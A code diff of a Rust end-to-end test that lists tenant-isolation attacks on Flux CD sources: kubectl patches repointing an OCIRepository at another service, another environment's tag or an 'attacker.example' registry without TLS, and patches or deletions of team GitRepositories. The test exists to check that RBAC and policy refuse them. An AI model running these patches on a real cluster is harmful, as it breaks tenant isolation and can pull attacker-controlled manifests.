@@ -1,8 +1,9 @@
-//! Step 6a, third table: the Flux sources that keep each tenant to its own part of the platform
-//! repository, as the provider's developer and its Flux account: its own GitRepository widened
-//! (sparseCheckout onto another team's tenants, ignore emptied), a tenant Kustomization on its
-//! team's or another team's source in flux-system, its team's source patched or deleted, and a
-//! GitRepository of its own checking out another team's directory.
+//! Step 6a, third table: the Flux sources that keep each tenant to its own part of the platform,
+//! as the provider's developer and its Flux account: its own OCIRepository pointed at another
+//! service's artifact, another environment's tag or a registry of its own; a tenant Kustomization
+//! on its team's or another team's source in flux-system; its team's source patched or deleted;
+//! and a source of its own, on another service's artifact or checking out another team's
+//! directory of the platform repository.
 
 use serde_json::{Value, json};
 
@@ -13,24 +14,39 @@ use crate::e2e::tree::{Tree, str_at};
 
 /// The sources the attacks aim at, from the tree.
 pub(super) struct Sources {
-    /// The provider's GitRepository (in its namespace, named after it).
-    own: Value,
+    /// Another service's OCIRepository.
+    other: Value,
+    /// The provider's team's git source in flux-system.
+    team_source: Value,
     /// The provider's team and another team, from the sources' team labels.
     team: String,
     other_team: String,
-    /// The environment, from the provider's sparseCheckout (`flux/apps/<service>/<env>`).
+    /// The environment: the tag the provider's source follows.
     env: String,
 }
 
 impl Sources {
     pub(super) fn of(tree: &Tree, ns: &str) -> anyhow::Result<Sources> {
-        let repositories = tree.of_kind("GitRepository");
-        let own = repositories
+        let artifacts = tree.of_kind("OCIRepository");
+        let named = |r: &&Value, namespace: &str, name: &str| {
+            str_at(r, "/metadata/namespace") == namespace && str_at(r, "/metadata/name") == name
+        };
+        let own = artifacts
             .iter()
-            .find(|r| str_at(r, "/metadata/namespace") == ns && str_at(r, "/metadata/name") == ns)
+            .find(|r| named(r, ns, ns))
+            .ok_or_else(|| anyhow::anyhow!("the tree has no OCIRepository {ns}/{ns}"))?;
+        let other = artifacts
+            .iter()
+            .find(|r| str_at(r, "/metadata/namespace") != ns)
             .map(|r| (*r).clone())
-            .ok_or_else(|| anyhow::anyhow!("the tree has no GitRepository {ns}/{ns}"))?;
-        let team = str_at(&own, "/metadata/labels/billing-platform~1team").to_owned();
+            .ok_or_else(|| anyhow::anyhow!("the tree has no OCIRepository but {ns}'s"))?;
+        let team = str_at(own, "/metadata/labels/billing-platform~1team").to_owned();
+        let repositories = tree.of_kind("GitRepository");
+        let team_source = repositories
+            .iter()
+            .find(|r| named(r, FLUX_NAMESPACE, &format!("team-{team}")))
+            .map(|r| (*r).clone())
+            .ok_or_else(|| anyhow::anyhow!("the tree has no source team-{team}"))?;
         let other_team = repositories
             .iter()
             .filter(|r| str_at(r, "/metadata/namespace") == FLUX_NAMESPACE)
@@ -38,16 +54,13 @@ impl Sources {
             .find(|t| *t != team)
             .map(str::to_owned)
             .ok_or_else(|| anyhow::anyhow!("the tree has no team source but {team}'s"))?;
-        let env = str_at(&own, "/spec/sparseCheckout/0")
-            .rsplit('/')
-            .next()
-            .unwrap_or("")
-            .to_owned();
+        let env = str_at(own, "/spec/ref/tag").to_owned();
         if team.is_empty() || env.is_empty() {
-            anyhow::bail!("the GitRepository {ns}/{ns} names no team label or sparseCheckout");
+            anyhow::bail!("the OCIRepository {ns}/{ns} names no team label or tag");
         }
         Ok(Sources {
-            own,
+            other,
+            team_source,
             team,
             other_team,
             env,
@@ -57,7 +70,8 @@ impl Sources {
 
 pub(super) fn attacks(developer: &Who, tenant: &Who, ns: &str, sources: &Sources) -> Vec<Attack> {
     let Sources {
-        own,
+        other,
+        team_source,
         team,
         other_team,
         env,
@@ -70,46 +84,58 @@ pub(super) fn attacks(developer: &Who, tenant: &Who, ns: &str, sources: &Sources
         stdin: Some(object.to_string()),
         denied_by: &[],
     };
-    let own_source = format!("gitrepository/{ns}");
-    let team_source = format!("gitrepository/team-{team}");
+    let patch = |who: &Who, what: &str, object: &str, namespace: &str, change: Value| {
+        run(
+            who,
+            what,
+            &[
+                "patch",
+                object,
+                "-n",
+                namespace,
+                "--type=merge",
+                "-p",
+                &change.to_string(),
+            ],
+        )
+    };
+    let own_source = format!("ocirepository/{ns}");
+    let other_url = str_at(other, "/spec/url");
+    let other_env = if env == "production" {
+        "staging"
+    } else {
+        "production"
+    };
+    let team_source_ref = format!("gitrepository/team-{team}");
     let other_tenants = format!("flux/tenants/{env}/{other_team}");
-    let widened = json!({"spec": {"sparseCheckout":
-        [str_at(own, "/spec/sparseCheckout/0"), other_tenants]}})
-    .to_string();
-    let unignored = json!({"spec": {"ignore": ""}}).to_string();
-    let team_widened = json!({"spec": {"sparseCheckout": ["flux"]}}).to_string();
     // Neither the developer Role nor the flux-tenant ClusterRole grants Flux's kinds, so RBAC
-    // refuses first; behind it tenant-limits-protected (the namespace's GitRepository and
-    // Kustomization are the platform's) and flux-tenant-kustomization (the source's namespace).
+    // refuses first; behind it tenant-limits-protected (every Flux source and Kustomization in a
+    // service namespace is the platform's) and flux-tenant-kustomization (the source's namespace).
     let mut attacks = Vec::new();
     for who in [developer, tenant] {
         attacks.extend([
-            // 1. Its own source widened onto another team's tenants, or to the whole repository.
-            run(
+            // 1. Its own source pointed elsewhere: another service's artifact, another
+            // environment's tag, a registry of its own.
+            patch(
                 who,
-                &format!("widens its GitRepository's sparseCheckout to {other_tenants}"),
-                &[
-                    "patch",
-                    &own_source,
-                    "-n",
-                    ns,
-                    "--type=merge",
-                    "-p",
-                    &widened,
-                ],
+                &format!("points its OCIRepository at {other_url}"),
+                &own_source,
+                ns,
+                json!({"spec": {"url": other_url}}),
             ),
-            run(
+            patch(
                 who,
-                "empties its GitRepository's ignore rules",
-                &[
-                    "patch",
-                    &own_source,
-                    "-n",
-                    ns,
-                    "--type=merge",
-                    "-p",
-                    &unignored,
-                ],
+                &format!("switches its OCIRepository to the {other_env} tag"),
+                &own_source,
+                ns,
+                json!({"spec": {"ref": {"tag": other_env}}}),
+            ),
+            patch(
+                who,
+                "points its OCIRepository at a registry of its own, without TLS",
+                &own_source,
+                ns,
+                json!({"spec": {"url": "oci://attacker.example/manifests", "insecure": true}}),
             ),
             // 2. A Kustomization of its namespace, with the account the policy asks for, on a
             // source in flux-system: another team's, or the bootstrap's (namespace.rs' one has no
@@ -129,31 +155,33 @@ pub(super) fn attacks(developer: &Who, tenant: &Who, ns: &str, sources: &Sources
                 tenant_kustomization(ns, FLUX_NAMESPACE, &format!("flux/clusters/{env}")),
             ),
             // 3. Its team's source in flux-system: widened, deleted.
-            run(
+            patch(
                 who,
                 &format!("widens {FLUX_NAMESPACE}/team-{team}'s sparseCheckout to flux"),
-                &[
-                    "patch",
-                    &team_source,
-                    "-n",
-                    FLUX_NAMESPACE,
-                    "--type=merge",
-                    "-p",
-                    &team_widened,
-                ],
+                &team_source_ref,
+                FLUX_NAMESPACE,
+                json!({"spec": {"sparseCheckout": ["flux"]}}),
             ),
             run(
                 who,
                 &format!("deletes {FLUX_NAMESPACE}/team-{team}"),
-                &["delete", &team_source, "-n", FLUX_NAMESPACE],
+                &["delete", &team_source_ref, "-n", FLUX_NAMESPACE],
             ),
-            // 4. A source of its own on the platform repository, checking out another team's.
+            // 4. A source of its own: on another service's artifact, or on the platform
+            // repository checking out another team's tenants.
+            apply(
+                who,
+                &format!("creates an OCIRepository on {other_url}"),
+                json!({"apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "OCIRepository",
+                "metadata": {"name": "e2e-attack", "namespace": ns}, "spec": {"interval": "1m",
+                "url": other_url, "ref": other["spec"]["ref"].clone()}}),
+            ),
             apply(
                 who,
                 &format!("creates a GitRepository checking out {other_tenants}"),
                 json!({"apiVersion": "source.toolkit.fluxcd.io/v1", "kind": "GitRepository",
                 "metadata": {"name": "e2e-attack", "namespace": ns}, "spec": {"interval": "1m",
-                "url": str_at(own, "/spec/url"), "ref": own["spec"]["ref"].clone(),
+                "url": str_at(team_source, "/spec/url"), "ref": team_source["spec"]["ref"].clone(),
                 "sparseCheckout": [other_tenants]}}),
             ),
         ]);
